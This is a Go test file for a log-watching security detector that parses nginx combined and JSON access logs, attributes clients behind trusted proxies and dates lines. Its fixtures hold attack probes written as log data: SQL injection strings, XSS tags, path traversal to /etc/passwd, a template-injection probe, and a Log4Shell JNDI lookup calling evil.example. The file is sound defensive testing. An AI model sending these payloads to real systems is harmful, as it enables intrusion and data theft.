package applog

import (
	"context"
	"fmt"
	"log/slog"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/apiguard/apiguard/userspace/clientip"
	"github.com/apiguard/apiguard/userspace/detect"
)

// runSource follows a file written before the start (fromStart) and returns
// the signals once every line was read.
func runSource(t *testing.T, cfg SourceConfig, content string, lines uint64) ([]detect.Signal, SourceStats) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "log")
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg.Follow = FollowOptions{Path: path, FromStart: true, Poll: 5 * time.Millisecond}
	if cfg.Clock == nil {
		cfg.Clock = fixedClock
	}
	var mu sync.Mutex
	var got []detect.Signal
	src, err := NewSource(cfg, func(s detect.Signal) bool {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, s)
		return s.Status != 500 // as if error-burst were off
	}, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- src.Run(ctx) }()
	deadline := time.Now().Add(10 * time.Second)
	for st := src.Stats(); st.Lines+st.TooLong < lines; st = src.Stats() {
		if time.Now().After(deadline) {
			t.Fatalf("read %d lines (%d too long) of %d in 10s", st.Lines, st.TooLong, lines)
		}
		time.Sleep(2 * time.Millisecond)
	}
	cancel()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	return slices.Clone(got), src.Stats()
}

// The tests' lines are written at 10:22:02; they are read 30 s later, at a
// CLOCK_MONOTONIC of 1000 s.
var (
	testNow  = time.Date(2026, 11, 27, 10, 22, 32, 0, time.UTC)
	testMono = int64(1000 * time.Second)
	// lineAt is where a line of 10:22:02 lands on the detector's clock,
	// lineAge how old it is
	lineAt  = testMono - int64(30*time.Second)
	lineAge = 30 * time.Second
)

func fixedClock() (time.Time, int64) { return testNow, testMono }

func TestSourceCombinedBehindProxies(t *testing.T) {
	content := `10.0.0.2 - - [27/Nov/2026:10:22:02 +0000] "POST /login HTTP/1.1" 401 5 "-" "ua" "1.2.3.4, 198.51.100.7"
10.0.0.2 - - [27/Nov/2026:10:22:02 +0000] "GET /items/5 HTTP/1.1" 200 5 "-" "ua" "198.51.100.7"
203.0.113.9 - - [27/Nov/2026:10:22:02 +0000] "GET /items/6?x=1 HTTP/1.1" 404 5 "-" "ua" "198.51.100.7"
10.0.0.2 - - [27/Nov/2026:10:22:02 +0000] "GET /boom HTTP/1.1" 500 5 "-" "ua" "-"
10.0.0.2 - - [27/Nov/2026:10:22:02 +0000] "GET /x HTTP/1.1" 403 5 "-" "ua" "not-an-ip"
10.0.0.2 - - [27/Nov/2026:10:22:02 +0000] "GET /y HTTP/1.1" 404 5 "-" "ua" "10.9.9.9, 10.0.0.1"
10.0.0.2 - - [27/Nov/2026:10:22:02 +0000] "GET /z HTTP/1.1" 404 5 "-" "ua" "198.51.100.8, 10.0.0.1"
this line is not nginx's
`
	got, st := runSource(t, SourceConfig{Format: "combined", Forwarded: true, Proxies: clientip.Trusted{netip.MustParsePrefix("10.0.0.0/8")}}, content, 8)
	want := []detect.Signal{
		{Client: netip.MustParseAddr("198.51.100.7"), At: lineAt, Age: lineAge, Method: "POST", Path: "/login", Status: 401},
		// an untrusted peer's header is ignored
		{Client: netip.MustParseAddr("203.0.113.9"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items/6", Status: 404},
		// past a chain of trusted proxies
		{Client: netip.MustParseAddr("198.51.100.8"), At: lineAt, Age: lineAge, Method: "GET", Path: "/z", Status: 404},
	}
	if !slices.Equal(got, want) {
		t.Fatalf("signals\n%+v\nwant\n%+v", got, want)
	}
	// the 500 from the proxy itself and the all-trusted chain blame nobody
	if st.Lines != 8 || st.ParseErrors != 1 || st.AllTrusted != 2 || st.BadHops != 1 || st.Signals != 3 || st.Format != "combined" {
		t.Fatalf("stats %+v", st)
	}
}

// What a client writes into its own line cannot get the line skipped: a
// Basic authorization header's user name (nginx's $remote_user, written
// before the time and escaped only for quotes, backslashes and non-printable
// bytes) holding " [" or a whole bracketed time, and headers as long as
// nginx takes them by default (8 KiB a line, each non-printable byte written
// as \xNN) in the user agent, the referer and the forwarded-for field.
func TestSourceClientWrittenFields(t *testing.T) {
	escaped := func(n int) string { return strings.Repeat(`\x01`, n) }
	content := `203.0.113.7 - a [ [27/Nov/2026:10:22:02 +0000] "POST /login HTTP/1.1" 401 0 "-" "curl" "-"
203.0.113.7 - a [01/Jan/2020:00:00:00 +0000] [27/Nov/2026:10:22:02 +0000] "POST /login HTTP/1.1" 401 0 "-" "curl" "-"
203.0.113.7 - a ] [27/Nov/2026:10:22:02 +0000] "POST /login HTTP/1.1" 401 0 "-" "curl" "-"
203.0.113.7 - - [27/Nov/2026:10:22:02 +0000] "POST /login HTTP/1.1" 401 0 "-" "` + escaped(8000) + `" "-"
10.0.0.2 - - [27/Nov/2026:10:22:02 +0000] "POST /login HTTP/1.1" 401 0 "` + escaped(8000) + `" "` + escaped(8000) +
		`" "` + escaped(8000) + `, 203.0.113.7"
`
	got, st := runSource(t, SourceConfig{Format: "combined", Forwarded: true, Proxies: clientip.Trusted{netip.MustParsePrefix("10.0.0.2/32")}}, content, 5)
	one := detect.Signal{Client: netip.MustParseAddr("203.0.113.7"), At: lineAt, Age: lineAge, Method: "POST", Path: "/login", Status: 401}
	if want := []detect.Signal{one, one, one, one, one}; !slices.Equal(got, want) {
		t.Fatalf("signals\n%+v\nwant five of\n%+v\nstats %+v", got, one, st)
	}
}

func TestSourceJSON(t *testing.T) {
	content := `{"t":"2026-11-27T10:22:02Z","ip":"2001:db8::5","req":{"method":"GET","uri":"/users/3f2504e0-4f89-11d3-9a0c-0305e82c3301"},"code":404}
{"t":"2026-11-27T10:22:02Z","ip":"2001:db8::5","req":{"method":"GET","uri":"/"},"code":200}
{"t":"2026-11-27T10:22:02Z","ip":"2001:db8::5","code":"oops"}
`
	fields := Fields{Client: "ip", Time: "t", Method: "req.method", Path: "req.uri", Status: "code"}
	got, st := runSource(t, SourceConfig{Format: "json", Fields: fields}, content, 3)
	want := []detect.Signal{{Client: netip.MustParseAddr("2001:db8::5"), At: lineAt, Age: lineAge, Method: "GET", Path: "/users/3f2504e0-4f89-11d3-9a0c-0305e82c3301", Status: 404}}
	if !slices.Equal(got, want) || st.ParseErrors != 1 || st.Signals != 1 {
		t.Fatalf("signals %+v stats %+v", got, st)
	}
}

func TestNewSourceChecks(t *testing.T) {
	sink := func(detect.Signal) bool { return true }
	for _, c := range []struct {
		cfg  SourceConfig
		want string
	}{
		{SourceConfig{Follow: FollowOptions{Path: "/x"}, Format: "xml"}, `format "xml" is neither combined nor json`},
		{SourceConfig{Follow: FollowOptions{Path: "/x"}, Format: "json"}, "json fields: client"},
		{SourceConfig{Format: "combined"}, "no path"},
	} {
		if _, err := NewSource(c.cfg, sink, nil); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%+v: %v, want %q", c.cfg, err, c.want)
		}
	}
	if _, err := NewSource(SourceConfig{Follow: FollowOptions{Path: "/x"}}, nil, nil); err == nil {
		t.Error("no sink accepted")
	}
}

// Lines are dated by their own time: old ones (a restart, a rotation while
// the daemon was down, fromStart) are ignored once older than their rule's
// window, the rest land where they happened on the detector's clock; lines
// from the future beyond MaxSkew are ignored, within it counted as now; a
// time that does not parse makes a parse error.
func TestSourceDatesLinesByTheirTime(t *testing.T) {
	line := func(ts string, status int, path string) string {
		return fmt.Sprintf(`198.51.100.7 - - [%s] "GET %s HTTP/1.1" %d 5 "-" "ua"`+"\n", ts, path, status)
	}
	var b strings.Builder
	// now is 10:22:32 +0000; windows: 401 1m, 403/404 10m, 429 1m, 5xx 30s
	b.WriteString(line("27/Nov/2026:08:00:00 +0000", 401, "/login"))   // hours old
	b.WriteString(line("27/Nov/2026:10:21:31 +0000", 401, "/login"))   // 61 s: stale for a 1m window
	b.WriteString(line("27/Nov/2026:10:21:33 +0000", 401, "/login"))   // 59 s
	b.WriteString(line("27/Nov/2026:10:13:32 +0000", 404, "/items/1")) // 9 min: inside its 10m window
	b.WriteString(line("27/Nov/2026:10:22:00 +0000", 500, "/boom"))    // 32 s: stale for 30s
	b.WriteString(line("27/Nov/2026:11:22:31 +0100", 429, "/a"))       // 1 s ago, another zone
	b.WriteString(line("27/Nov/2026:10:22:40 +0000", 429, "/b"))       // 8 s ahead: within the skew, now
	b.WriteString(line("27/Nov/2026:10:23:32 +0000", 429, "/c"))       // a minute ahead: ignored
	b.WriteString(line("27/Nov/2026:10:22:32 +0000", 200, "/"))        // a success: its time is not even read
	b.WriteString(line("31/Feb/2026:10:22:32 +0000", 401, "/login"))   // no such date: a parse error
	b.WriteString(line("27/Nov/2026:10:22:32 0000", 401, "/login"))    // no zone sign: a parse error
	windows := Windows{AuthFailures: time.Minute, Enumeration: 10 * time.Minute, AppThrottled: time.Minute, ErrorBurst: 30 * time.Second}
	got, st := runSource(t, SourceConfig{Format: "combined", Windows: func() Windows { return windows }}, b.String(), 11)
	client := netip.MustParseAddr("198.51.100.7")
	want := []detect.Signal{
		{Client: client, At: testMono - int64(59*time.Second), Age: 59 * time.Second, Method: "GET", Path: "/login", Status: 401},
		{Client: client, At: testMono - int64(9*time.Minute), Age: 9 * time.Minute, Method: "GET", Path: "/items/1", Status: 404},
		{Client: client, At: testMono - int64(time.Second), Age: time.Second, Method: "GET", Path: "/a", Status: 429},
		{Client: client, At: 0, Method: "GET", Path: "/b", Status: 429},
	}
	if !slices.Equal(got, want) {
		t.Fatalf("signals\n%+v\nwant\n%+v", got, want)
	}
	if st.Stale != 3 || st.Future != 1 || st.ParseErrors != 2 || st.Lines != 11 {
		t.Fatalf("stats %+v", st)
	}
}

// After a reboot CLOCK_MONOTONIC starts again: a line from before it (still
// inside its window) lands at the boot, never at 0, which means now.
func TestSourceLineFromBeforeBoot(t *testing.T) {
	content := `198.51.100.7 - - [27/Nov/2026:10:21:40 +0000] "POST /login HTTP/1.1" 401 5 "-" "ua"` + "\n"
	got, _ := runSource(t, SourceConfig{Format: "combined",
		Clock: func() (time.Time, int64) { return testNow, int64(10 * time.Second) }}, content, 1)
	if len(got) != 1 || got[0].At != 1 {
		t.Fatalf("signals %+v: want one at 1 ns", got)
	}
}

// What a request carried counts whatever its status, once the detector's
// matcher is given; attribution behind proxies and dating are those of the
// status lines: a client's own X-Forwarded-For frames nobody.
func TestSourceScreensPayloadsAndScanners(t *testing.T) {
	det, err := detect.New(detect.DefaultConfig(), detect.Options{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	line := func(peer, ts, target string, status int, ua, xff string) string {
		return fmt.Sprintf(`%s - - [%s] "GET %s HTTP/1.1" %d 5 "-" "%s" "%s"`+"\n", peer, ts, target, status, ua, xff)
	}
	now := "27/Nov/2026:10:22:02 +0000"
	var b strings.Builder
	b.WriteString(line("203.0.113.50", now, "/items?id=1%27%20or%20%271%27=%271", 200, "curl/8", "-"))
	b.WriteString(line("203.0.113.51", now, "/search?q=O%27Reilly+books", 200, "Mozilla/5.0", "-"))
	b.WriteString(line("203.0.113.52", now, "/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)", "-"))
	// an untrusted peer writing a victim into the header is blamed itself
	b.WriteString(line("203.0.113.53", now, "/items?id=%3Cscript%3Ealert(1)%3C/script%3E", 404, "curl/8", "192.0.2.99"))
	// through the proxy, a client padding the chain with a victim: the hop
	// the proxy added is the client
	b.WriteString(line("10.0.0.2", now, "/items?id=..%2f..%2fetc%2fpasswd", 200, "curl/8", "192.0.2.99, 198.51.100.60"))
	// the proxy's own request carrying a payload: nobody to blame
	b.WriteString(line("10.0.0.2", now, "/items?id=%7B%7B7*7%7D%7D", 200, "curl/8", "-"))
	// Log4Shell's probe in the user agent
	b.WriteString(line("203.0.113.55", now, "/", 404, "${jndi:ldap://evil.example/a}", "-"))
	// an hour old: stale for every rule
	b.WriteString(line("203.0.113.54", "27/Nov/2026:09:22:02 +0000", "/items?id=%27%20or%201=1--", 200, "Nikto", "-"))
	cfg := SourceConfig{Format: "combined", Forwarded: true, Proxies: clientip.Trusted{netip.MustParsePrefix("10.0.0.2/32")},
		Matcher: det.Matcher}
	got, st := runSource(t, cfg, b.String(), 8)
	want := []detect.Signal{
		{Client: netip.MustParseAddr("203.0.113.50"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=1%27%20or%20%271%27=%271", UserAgent: "curl/8", Status: 200},
		{Client: netip.MustParseAddr("203.0.113.52"), At: lineAt, Age: lineAge, Method: "GET", Path: "/", UserAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)", Status: 200},
		{Client: netip.MustParseAddr("203.0.113.53"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=%3Cscript%3Ealert(1)%3C/script%3E", UserAgent: "curl/8", Status: 404},
		{Client: netip.MustParseAddr("198.51.100.60"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=..%2f..%2fetc%2fpasswd", UserAgent: "curl/8", Status: 200},
		{Client: netip.MustParseAddr("203.0.113.55"), At: lineAt, Age: lineAge, Method: "GET", Path: "/", UserAgent: "${jndi:ldap://evil.example/a}", Status: 404},
	}
	if !slices.Equal(got, want) {
		t.Fatalf("signals\n%+v\nwant\n%+v", got, want)
	}
	if st.Probes != 7 || st.AllTrusted != 1 || st.Stale != 1 || st.Signals != 5 {
		t.Fatalf("stats %+v", st)
	}

	// without a matcher only the status counts, as before
	cfg.Matcher = nil
	got, st = runSource(t, cfg, b.String(), 8)
	if len(got) != 2 || got[0].Status != 404 || got[0].Query != "" || st.Probes != 0 {
		t.Fatalf("without a matcher: %+v, %+v", got, st)
	}
}

// The JSON format feeds the same screen: the query from the request (or a
// path holding one), the user agent from its field.
func TestSourceJSONScreens(t *testing.T) {
	det, err := detect.New(detect.DefaultConfig(), detect.Options{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	content := `{"time_iso8601":"2026-11-27T10:22:02Z","remote_addr":"203.0.113.60","request":"GET /items?id=1%27%20or%20sleep(5)-- HTTP/1.1","status":"200","http_user_agent":"curl/8"}
{"time_iso8601":"2026-11-27T10:22:02Z","remote_addr":"203.0.113.61","request":"GET / HTTP/1.1","status":"200","http_user_agent":"Mozilla/5.00 (Nikto/2.1.6)"}
{"time_iso8601":"2026-11-27T10:22:02Z","remote_addr":"203.0.113.62","request":"GET /search?q=O%27Reilly HTTP/1.1","status":"200","http_user_agent":"Mozilla/5.0"}
`
	got, st := runSource(t, SourceConfig{Format: "json", Fields: DefaultFields(), Matcher: det.Matcher}, content, 3)
	want := []detect.Signal{
		{Client: netip.MustParseAddr("203.0.113.60"), At: lineAt, Age: lineAge, Method: "GET", Path: "/items", Query: "id=1%27%20or%20sleep(5)--", UserAgent: "curl/8", Status: 200},
		{Client: netip.MustParseAddr("203.0.113.61"), At: lineAt, Age: lineAge, Method: "GET", Path: "/", UserAgent: "Mozilla/5.00 (Nikto/2.1.6)", Status: 200},
	}
	if !slices.Equal(got, want) || st.Probes != 2 {
		t.Fatalf("signals\n%+v\nwant\n%+v\nstats %+v", got, want, st)
	}
}

// Request lines nginx serves and logs as sent, which the first parser read
// with an empty path (spaces before the target) or a path not from the root
// (an absolute target): each a probe that went unseen by every rule. Through
// the source into a real detector, they count.
func TestSourceRequestLineForms(t *testing.T) {
	det, err := detect.New(detect.DefaultConfig(), detect.Options{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	content := `203.0.113.70 - - [27/Nov/2026:10:22:02 +0000] "GET  /items?id=1%27%20or%20%271%27=%271 HTTP/1.1" 200 5 "-" "curl/8"
203.0.113.71 - - [27/Nov/2026:10:22:02 +0000] "GET   /.git/config   HTTP/1.1" 404 5 "-" "curl/8"
203.0.113.72 - - [27/Nov/2026:10:22:02 +0000] "GET http://api.example/server-status HTTP/1.1" 403 5 "-" "curl/8"
203.0.113.73 - - [27/Nov/2026:10:22:02 +0000] "GET http://api.example?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 404 5 "-" "curl/8"
`
	got, _ := runSource(t, SourceConfig{Format: "combined", Matcher: det.Matcher}, content, 4)
	want := map[string]string{"203.0.113.70": "/items", "203.0.113.71": "/.git/config", "203.0.113.72": "/server-status", "203.0.113.73": "/"}
	if len(got) != len(want) {
		t.Fatalf("signals %+v: want one for each of %v", got, want)
	}
	for _, s := range got {
		// counted: for injection-probe (70, 73) or sensitive-files (71, 72)
		if c := s.Client.String(); s.Path != want[c] || !det.ObserveSignal(s) {
			t.Errorf("%s: path %q (want %q), or it counted for no rule", c, s.Path, want[c])
		}
	}
}
